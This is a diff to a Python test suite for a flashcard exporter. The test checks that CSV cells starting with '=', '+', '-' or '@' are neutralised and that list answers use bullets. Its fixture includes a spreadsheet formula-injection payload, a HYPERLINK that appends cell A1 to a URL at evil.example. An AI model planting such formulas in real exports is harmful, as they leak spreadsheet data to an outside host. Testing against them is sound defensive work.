@@ -249,6 +249,8 @@ Q: @SUM(1,2) 是什么？
 - -2 是负数。
 Q: 普通问题？
 普通答案 = 正常文字。
+Q: 负数怎么写？
+-2 就是负二。
 """
 
 
@@ -264,12 +266,14 @@ def test_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
     rows = [dict(zip(CSV_COLUMNS, r, strict=True)) for r in list(csv.reader(io.StringIO(text, newline="")))[1:]]
     cells = [cell for row in rows for cell in row.values()]
     assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
-    hyperlink, at_sum, plain = rows
+    hyperlink, at_sum, plain, minus = rows
     assert hyperlink["question_zh"] == '\'=HYPERLINK("https://evil.example/?"&A1,"点我")'
     assert hyperlink["answer_zh"] == "'+1+1 等于几？"
     assert at_sum["question_zh"] == "'@SUM(1,2) 是什么？"
-    assert at_sum["answer_zh"] == "'- 以列表开头的答案。\n- -2 是负数。"  # only the cell's first character counts
+    # a list is written with bullets, so an answer opening with one needs no guard; an item's own `-` is kept
+    assert at_sum["answer_zh"] == "• 以列表开头的答案。\n• -2 是负数。"
     assert plain["question_zh"] == "普通问题？" and plain["answer_zh"] == "普通答案 = 正常文字。"
+    assert minus["answer_zh"] == "'-2 就是负二。"
     # the decks keep the text as written: Anki fields are HTML, not spreadsheet cells
     deck = read_apkg(tmp_path / "out" / downloads.bank_deck("formula", "zh"))
     assert any(n.fields[0].startswith('<div lang="zh">=HYPERLINK(') for n in deck.notes.values())
